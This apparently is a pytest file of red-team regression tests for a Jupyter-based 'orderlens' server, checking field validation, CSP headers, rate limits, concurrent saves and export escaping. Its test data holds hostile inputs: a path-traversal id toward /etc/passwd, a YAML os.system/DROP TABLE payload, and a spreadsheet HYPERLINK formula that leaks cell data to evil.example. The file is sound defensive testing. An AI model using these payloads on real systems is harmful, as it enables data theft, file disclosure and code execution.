"""Red-team cases on the routes added for saved questions, feedback and the planners' groups.

Each case is a probe that got through on a running `orderlens serve` (issue 15's third pass):
unknown body fields silently ignored, a follow-up vote without the answer it followed, an
unbounded query value echoed back, Jupyter's HTML 404 for a hostile saved-question id, and an
Ask page whose Content-Security-Policy allowed any script. None of them needs an answer from the
engine, so the file stays fast (no catalog build).
"""

from __future__ import annotations

import csv
import io
import json
import threading
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from openpyxl import load_workbook

from lab.cli import cli
from lab.server.auth import OrderLensIdentityProvider
from lab.server.errors import TooManyRequests, http_status_of
from lab.server.feedback import FeedbackLog
from lab.server.presentation import export_table
from lab.server.saved import SavedQuestions
from lab.server.users import Role, UserStore
from tests.server_helpers import fetch_json as _call
from tests.server_helpers import token_headers

pytest_plugins = ["pytest_jupyter.jupyter_server"]


@pytest.mark.parametrize(
    ("who", "method", "path", "body", "field"),
    [
        ("ana", "POST", ("saved",), {"questions": ["各渠道的GMV"], "user": "pia"}, "user"),
        ("ana", "PATCH", ("saved", "sq-000000000000"), {"name": "n", "id": "sq-1"}, "id"),
        ("ana", "POST", ("feedback",), {"question": "GMV", "rating": "up", "sql": "SELECT 1"}, "sql"),
        ("ana", "POST", ("feedback",), {"question": "GMV", "rating": "up", "coment": "typo"}, "coment"),
        ("pia", "POST", ("recommendation-groups", "decide"),
         {"recommendation_ids": ["SR20261120-OL000000123"], "decision": "accept", "reviewer": "x"},
         "reviewer"),
        ("pia", "POST", ("recommendations", "SR20261120-OL000000123"),
         {"decision": "accept", "reviewer": "mallory"}, "reviewer"),
    ],
)  # fmt: skip
async def test_new_routes_refuse_unknown_fields(
    jp_fetch, tokens, who, method, path, body, field
) -> None:
    """Before: 201/404 with the field dropped (a reviewer or SQL the caller meant to count)."""
    code, got = await _call(
        jp_fetch, "orderlens", "api", *path, method=method, headers=token_headers(tokens[who]),
        body=json.dumps(body),
    )  # fmt: skip
    assert code == 400, got
    assert f'unknown field "{field}"' in got["error"] and "accepts only" in got["error"]


@pytest.mark.parametrize(
    ("route", "body", "field"),
    [
        ("ask", {"question": "各渠道的GMV", "todya": "2026-10-31"}, "todya"),
        ("ask", {"question": "各渠道的GMV", "user": "pia"}, "user"),
        ("chart", {"question": "各渠道的GMV", "kind": "bar", "sql": "SELECT 1"}, "sql"),
        ("chart", {"question": "各渠道的GMV", "kind": "bar", "followup_context": {}},
         "followup_context"),
        ("export", {"question": "各渠道的GMV", "format": "csv", "rows": [["jd", 1]]}, "rows"),
        ("export", {"question": "各渠道的GMV", "format": "csv", "columns": ["x"]}, "columns"),
    ],
)  # fmt: skip
async def test_answering_routes_refuse_unknown_fields(
    jp_fetch, tokens, history_file: Path, route, body, field
) -> None:
    """Before: 200 with the key ignored (the page sent the whole answer object to chart and
    export, so the routes could not be strict; a misspelt ``todya`` answered for today)."""
    code, got = await _call(
        jp_fetch, "orderlens", "api", route, method="POST", headers=token_headers(tokens["ana"]),
        body=json.dumps(body),
    )  # fmt: skip
    assert code == 400, got
    assert got["error"].startswith(f'unknown field "{field}": this route accepts only "question"')
    assert not history_file.exists()  # refused before anything was asked or recorded


async def test_saved_list_is_untouched_by_a_refused_body(jp_fetch, tokens) -> None:
    code, _ = await _call(
        jp_fetch, "orderlens", "api", "saved", method="POST", headers=token_headers(tokens["ana"]),
        body=json.dumps({"questions": ["各渠道的GMV"], "pinned": True}),
    )  # fmt: skip
    code_list, listed = await _call(
        jp_fetch, "orderlens", "api", "saved", headers=token_headers(tokens["ana"])
    )
    assert (code, code_list, listed) == (400, 200, {"saved": []})


async def test_a_follow_up_vote_needs_the_context_it_was_answered_in(jp_fetch, tokens) -> None:
    """Before: 201, stored as a follow-up of "各渠道的GMV" with the standalone answer's SQL."""
    code, got = await _call(
        jp_fetch, "orderlens", "api", "feedback", method="POST", headers=token_headers(tokens["ana"]),
        body=json.dumps({"question": "只看上个月", "rating": "up",
                         "questions": ["各渠道的GMV", "只看上个月"]}),
    )  # fmt: skip
    assert code == 400 and 'needs "context"' in got["error"], got


@pytest.mark.parametrize("saved_id", ["..%2F..%2Fetc%2Fpasswd", "sq-XYZ", "%00", "x" * 150])
async def test_hostile_saved_ids_get_the_json_not_found(jp_fetch, tokens, saved_id) -> None:
    """Before: Jupyter's HTML 404 page (not JSON) for any id off the ``sq-<12 hex>`` pattern."""
    for method, body in (("PATCH", json.dumps({"name": "n"})), ("DELETE", None)):
        code, got = await _call(
            jp_fetch, "orderlens", "api", "saved", saved_id, method=method,
            headers=token_headers(tokens["ana"]), body=body, allow_nonstandard_methods=True,
        )  # fmt: skip
        assert code == 404 and got["error"].startswith("you have no saved question"), got
        assert len(got["error"]) < 160  # the id is cut in the message, never echoed whole


async def test_group_status_is_checked_and_not_echoed_whole(jp_fetch, tokens) -> None:
    """Before: a 5,000-character status came back whole in the 400 message."""
    code, got = await _call(
        jp_fetch, "orderlens", "api", "recommendation-groups", headers=token_headers(tokens["pia"]),
        params={"status": "x" * 5000},
    )  # fmt: skip
    assert code == 400 and "unknown status" in got["error"] and len(got["error"]) < 200, got


async def test_the_ask_page_allows_only_its_own_scripts(jp_fetch, tokens) -> None:
    """Before: ``frame-ancestors 'self'`` only, so an injected inline script would have run."""
    resp = await jp_fetch("orderlens/", headers=token_headers(tokens["ana"]))
    policy = {
        part.split()[0]: part.split()[1:]
        for part in resp.headers["Content-Security-Policy"].split(";")
        if part.strip()
    }
    assert policy["script-src"] == ["'self'"]
    assert policy["object-src"] == ["'none'"] and policy["base-uri"] == ["'none'"]
    assert policy["frame-ancestors"] == ["'self'"] and policy["default-src"] == ["'self'"]
    assert resp.headers["X-Content-Type-Options"] == "nosniff"


def test_feedback_export_of_a_hostile_comment_is_plain_yaml_data(tmp_path: Path) -> None:
    """Held in the probe (yaml.safe_dump); kept as a regression: a comment shaped like YAML
    (tags, anchors, a fake list item with gold SQL, line separators) stays one string."""
    hostile = (
        "ok\n- question: injected\n  gold_sql: DROP TABLE orders\n"
        "!!python/object/apply:os.system ['id'] &a *a \u2028 \x85 # c: d"
    )
    log = FeedbackLog(tmp_path / "fb.jsonl")
    log.add(
        {"user": "ana", "rating": "up", "comment": hostile, "question": "各渠道的GMV", "followup_of": [], "today": "2026-11-20",
         "model": "builtin", "ok": True, "engine": "rules", "sql": "SELECT 1",
         "semantic_query": {"metrics": ["gmv"]}, "interpretation": "GMV"}
    )  # fmt: skip
    out = tmp_path / "export.yaml"
    res = CliRunner().invoke(
        cli,
        ["feedback", "export", "--feedback-file", str(tmp_path / "fb.jsonl"), "--out", str(out)],
    )
    assert res.exit_code == 0, res.output
    doc = yaml.safe_load(out.read_text("utf-8"))
    assert [q["question"] for q in doc["questions"]] == ["各渠道的GMV"]
    assert doc["questions"][0]["feedback"]["comment"] == hostile
    assert doc["questions"][0]["gold_sql"] == "SELECT 1"


def test_no_person_may_take_the_server_tokens_name(users_file: Path) -> None:
    """Before: ``orderlens users add server-token`` worked, and that person then shared (could
    rename, delete) the saved questions and history of everyone using the server's token."""
    res = CliRunner().invoke(
        cli, ["users", "add", "Server-Token", "--role", "ask"],
        env={"ORDERLENS_USERS_FILE": str(users_file)},
    )  # fmt: skip
    assert res.exit_code != 0 and "reserved for requests with the server's own token" in (
        res.output
    )
    assert not users_file.exists() or "Server-Token" not in users_file.read_text()


def test_a_named_user_with_the_token_users_name_is_refused(users_file: Path) -> None:
    """A hand-edited file or a configured ``token_user``: that person signs in as nobody."""
    ana = UserStore(users_file).add("ana", Role.ASK)
    provider = OrderLensIdentityProvider(users_file=str(users_file), token_user="ana")
    assert provider.user_for_presented_token(ana) is None
    assert provider.user_from_cookie(json.dumps({"username": "ana", "kind": "named"})) is None
    other = OrderLensIdentityProvider(users_file=str(users_file))
    assert other.user_for_presented_token(ana).username == "ana"  # any other name works


def test_two_servers_sharing_the_saved_file_lose_no_save(tmp_path: Path) -> None:
    """Before: each server kept its own copy and wrote it whole, so the second server's save
    erased the first's (probe: two `orderlens serve` on one Jupyter data dir kept 1 of 2)."""
    path = tmp_path / "saved.json"
    one, two = SavedQuestions(path), SavedQuestions(path)  # two processes' stores

    def save_many(store: SavedQuestions, who: str) -> None:
        for i in range(25):
            store.save(who, [f"{who} question {i}"])

    threads = [
        threading.Thread(target=save_many, args=(one, "ana")),
        threading.Thread(target=save_many, args=(two, "ana")),
        threading.Thread(target=save_many, args=(two, "bo")),
    ]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    # "ana question i" saved by both servers is one entry (an identical conversation is kept)
    assert sorted(e["question"] for e in one.list("ana")) == sorted(
        f"ana question {i}" for i in range(25)
    )
    assert len(two.list("bo")) == 25 and len(one.list("bo")) == 25
    on_disk = json.loads(path.read_text())
    assert len(on_disk) == 50 and len({e["id"] for e in on_disk}) == 50
    first = one.list("ana")[0]["id"]
    two.rename("ana", first, "renamed on the other server")
    assert one.list("ana")[0]["name"] == "renamed on the other server"
    one.remove("ana", first)
    assert first not in {e["id"] for e in two.list("ana")}


def test_votes_per_person_and_day_are_capped(tmp_path: Path) -> None:
    """Before: no limit — one signed-in user could append votes (each re-asking a question)
    until the disk was full. Now the cap answers 429 before the question is asked again."""
    path = tmp_path / "fb.jsonl"
    log = FeedbackLog(path, max_per_day=3)
    vote = {"user": "ana", "rating": "up", "question": "GMV", "comment": None}
    for _ in range(3):
        log.add(dict(vote))
    with pytest.raises(TooManyRequests, match="you have sent 3 votes today") as caught:
        log.check_room("ana")
    assert http_status_of(caught.value) == 429
    with pytest.raises(TooManyRequests):
        log.add(dict(vote))
    log.add({**vote, "user": "bo"})  # another person is not affected
    restarted = FeedbackLog(path, max_per_day=3)  # counts come back from the file
    with pytest.raises(TooManyRequests):
        restarted.check_room("ana")
    assert len(path.read_text().splitlines()) == 4


async def test_the_sign_in_page_runs_no_script(jp_fetch) -> None:
    """Before: Jupyter's ``frame-ancestors`` only on the page where a token is typed."""
    page = await jp_fetch("login", method="GET", headers={"Authorization": ""})
    policy = page.headers["Content-Security-Policy"]
    assert "default-src 'none'" in policy and "form-action 'self'" in policy
    assert "script-src" not in policy  # default-src 'none' covers scripts: none may run
    assert "<script" not in page.body.decode()


def test_exported_text_that_looks_like_a_formula_stays_text() -> None:
    """Before: a warehouse value ``=HYPERLINK(...)`` was a live formula in the XLSX export and
    a raw ``=`` cell in the CSV (spreadsheet formula injection through ingested text)."""
    hostile = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = [[hostile, 3], ["@SUM(1+1)", -2], ["京东", 5]]
    text = export_table(["name", "n"], rows, "csv").decode("utf-8-sig")
    got = list(csv.reader(io.StringIO(text)))
    assert got[1:] == [["'" + hostile, "3"], ["'@SUM(1+1)", "-2"], ["京东", "5"]]
    sheet = load_workbook(io.BytesIO(export_table(["name", "n"], rows, "xlsx"))).active
    first = sheet["A2"]
    assert (first.value, first.data_type) == (hostile, "s")
    assert (sheet["B3"].value, sheet["A4"].value) == (-2, "京东")
